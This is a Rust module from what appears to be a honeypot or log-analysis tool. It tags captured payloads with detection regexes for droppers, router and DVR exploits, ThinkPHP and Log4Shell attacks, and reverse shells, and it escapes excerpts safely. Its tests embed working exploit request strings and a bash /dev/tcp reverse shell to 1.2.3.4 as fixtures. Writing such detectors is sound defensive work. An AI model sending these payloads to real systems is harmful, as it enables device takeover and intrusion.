//! Payload search: built-in tags for common droppers and exploits, user
//! `--grep` patterns, and safe excerpts of what matched.
//!
//! Payloads are hostile: excerpts keep printable ASCII only and write every
//! other byte as an escape (`\n`, `\r`, `\t`, `\\`, `\xNN`), so they cannot
//! drive a terminal, and the HTML writer escapes them once more.

use regex::bytes::{Regex, RegexSet, RegexSetBuilder};

/// A built-in tag: name, what it means, and its pattern (case-insensitive).
pub struct TagDef {
    /// Short name.
    pub name: &'static str,
    /// What it detects.
    pub description: &'static str,
    /// Regular expression over the payload bytes.
    pub pattern: &'static str,
}

/// The built-in tags (see `docs/report.md`).
pub const TAGS: &[TagDef] = &[
    TagDef {
        name: "wget-dropper",
        description: "downloads with wget (shell droppers, often URL-encoded)",
        pattern: r"wget(\s|\+|%20|\$\{IFS\}|\$IFS)+\S",
    },
    TagDef {
        name: "curl-dropper",
        description: "downloads with curl",
        pattern: r"curl(\s|\+|%20|\$\{IFS\}|\$IFS)+\S",
    },
    TagDef {
        name: "tftp-dropper",
        description: "downloads with tftp/busybox tftp",
        pattern: r"tftp(\s|\+|%20|\$\{IFS\}|\$IFS)+-",
    },
    TagDef {
        name: "gpon",
        description: "GPON router RCE (CVE-2018-10561/10562, /GponForm/diag_Form)",
        pattern: r"/GponForm/diag_Form",
    },
    TagDef {
        name: "dvr",
        description: "DVR/NVR command injection (AVTECH /cgi-bin/nobody, MVPower /shell?)",
        pattern: r"(/cgi-bin/nobody/|/cgi-bin/supervisor/|Search\.cgi\?action=|GET /shell\?)",
    },
    TagDef {
        name: "thinkphp",
        description: "ThinkPHP 5 RCE (invokefunction, \\think\\app)",
        pattern: r"(invokefunction|\\think\\app|%5Cthink%5Capp)",
    },
    TagDef {
        name: "log4shell",
        description: "Log4Shell JNDI lookup (CVE-2021-44228), plain or obfuscated",
        pattern: r"(\$\{|%24%7B)\s*(jndi|\$\{|%24%7B|lower:|upper:|::-)",
    },
    TagDef {
        name: "reverse-shell",
        description: "reverse shells (/dev/tcp, bash -i, nc -e, mkfifo, socket one-liners)",
        pattern: r"(/dev/tcp/|bash(\s|\+|%20)+-i|\bnc(\.traditional)?(\s|\+)+(-\S+(\s|\+)+)*\S+(\s|\+)+\d+(\s|\+)+-e|mkfifo|socket\.socket\()",
    },
];

/// Compiled tags and user patterns.
pub struct Matchers {
    tags: RegexSet,
    greps: Option<RegexSet>,
    grep_first: Vec<Regex>,
    /// The user patterns as given.
    pub grep_patterns: Vec<String>,
}

impl Matchers {
    /// Compile the built-in tags and `greps`; an invalid pattern is a usage
    /// error.
    pub fn new(greps: &[String]) -> Result<Self, String> {
        let tags = RegexSetBuilder::new(TAGS.iter().map(|t| t.pattern))
            .case_insensitive(true)
            .build()
            .map_err(|e| format!("built-in tag pattern: {e}"))?;
        let greps_set = if greps.is_empty() {
            None
        } else {
            Some(
                RegexSet::new(greps)
                    .map_err(|e| format!("invalid --grep pattern: {}", one_line(&e.to_string())))?,
            )
        };
        let grep_first = greps
            .iter()
            .map(|g| {
                Regex::new(g)
                    .map_err(|e| format!("invalid --grep pattern: {}", one_line(&e.to_string())))
            })
            .collect::<Result<_, _>>()?;
        Ok(Matchers {
            tags,
            greps: greps_set,
            grep_first,
            grep_patterns: greps.to_vec(),
        })
    }

    /// Bitmask of the tags that match (bit i = `TAGS[i]`).
    pub fn tags(&self, data: &[u8]) -> u32 {
        let mut mask = 0;
        for i in self.tags.matches(data).iter() {
            mask |= 1 << i;
        }
        mask
    }

    /// Indices of the user patterns that match.
    pub fn greps(&self, data: &[u8]) -> Vec<usize> {
        match &self.greps {
            Some(set) => set.matches(data).iter().collect(),
            None => Vec::new(),
        }
    }

    /// Where the first matching user pattern (or else tag) starts.
    pub fn first_match(&self, data: &[u8], greps: &[usize], tags: u32) -> usize {
        if let Some(&g) = greps.first()
            && let Some(m) = self.grep_first.get(g).and_then(|r| r.find(data))
        {
            return m.start();
        }
        if tags != 0 {
            let i = tags.trailing_zeros() as usize;
            if let Some(def) = TAGS.get(i)
                && let Ok(r) = regex::bytes::RegexBuilder::new(def.pattern)
                    .case_insensitive(true)
                    .build()
                && let Some(m) = r.find(data)
            {
                return m.start();
            }
        }
        0
    }
}

fn one_line(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Escape bytes into printable ASCII (see the module docs).
pub fn escape_into(out: &mut String, bytes: &[u8]) {
    for &b in bytes {
        match b {
            b'\\' => out.push_str("\\\\"),
            b'\n' => out.push_str("\\n"),
            b'\r' => out.push_str("\\r"),
            b'\t' => out.push_str("\\t"),
            0x20..=0x7e => out.push(b as char),
            _ => {
                use std::fmt::Write as _;
                let _ = write!(out, "\\x{b:02x}");
            }
        }
    }
}

/// Printable-ASCII form of `bytes`, at most `max` input bytes, `...` where cut.
pub fn safe_text(bytes: &[u8], max: usize) -> String {
    let mut out = String::with_capacity(bytes.len().min(max) + 3);
    escape_into(&mut out, &bytes[..bytes.len().min(max)]);
    if bytes.len() > max {
        out.push_str("...");
    }
    out
}

/// An excerpt of `data` around byte `at`: up to `max` input bytes starting a
/// little before it, escaped, with `...` where cut.
pub fn excerpt(data: &[u8], at: usize, max: usize) -> String {
    let start = at.min(data.len()).saturating_sub(max / 4);
    let end = data.len().min(start.saturating_add(max));
    let mut out = String::new();
    if start > 0 {
        out.push_str("...");
    }
    escape_into(&mut out, &data[start..end]);
    if end < data.len() {
        out.push_str("...");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tag_names(data: &[u8]) -> Vec<&'static str> {
        let m = Matchers::new(&[]).unwrap();
        let mask = m.tags(data);
        TAGS.iter()
            .enumerate()
            .filter(|(i, _)| mask & (1 << i) != 0)
            .map(|(_, t)| t.name)
            .collect()
    }

    #[test]
    fn known_exploits_are_tagged() {
        assert_eq!(
            tag_names(b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\nXWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://1.2.3.4/m+-O+/tmp/m`"),
            vec!["wget-dropper", "gpon"]
        );
        assert_eq!(
            tag_names(b"GET /cgi-bin/nobody/Search.cgi?action=cgi_query&ip=google.com&port=80&queryb64str=Lw==&username=admin%20;XmlAp%20r%20Account.User1.Password%3E$(cd%20/tmp;%20wget%20http://1.2.3.4/x)"),
            vec!["wget-dropper", "dvr"]
        );
        assert_eq!(
            tag_names(b"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array HTTP/1.1"),
            vec!["thinkphp"]
        );
        assert_eq!(
            tag_names(b"GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://x/a}\r\n"),
            vec!["log4shell"]
        );
        assert_eq!(
            tag_names(b"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"),
            vec!["reverse-shell"]
        );
        assert_eq!(
            tag_names(b"cd /tmp; curl -O http://x/y; tftp -g -r z 1.2.3.4"),
            vec!["curl-dropper", "tftp-dropper"]
        );
        assert!(tag_names(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").is_empty());
    }

    #[test]
    fn excerpts_are_printable() {
        let e = excerpt(b"\x1b[2J<script>\r\n\xff", 0, 100);
        assert_eq!(e, "\\x1b[2J<script>\\r\\n\\xff");
        assert!(e.bytes().all(|b| (0x20..0x7f).contains(&b)));
        assert_eq!(excerpt(b"0123456789abcdef", 8, 8), "...6789abcd...");
        assert_eq!(safe_text(b"abc\\", 3), "abc...");
    }

    #[test]
    fn bad_grep_is_an_error() {
        assert!(Matchers::new(&["(".to_owned()]).is_err());
        let m = Matchers::new(&["wget".to_owned(), "shell".to_owned()]).unwrap();
        assert_eq!(m.greps(b"GET /shell?wget"), vec![0, 1]);
        assert_eq!(m.first_match(b"GET /shell?wget", &[1], 0), 5);
    }
}
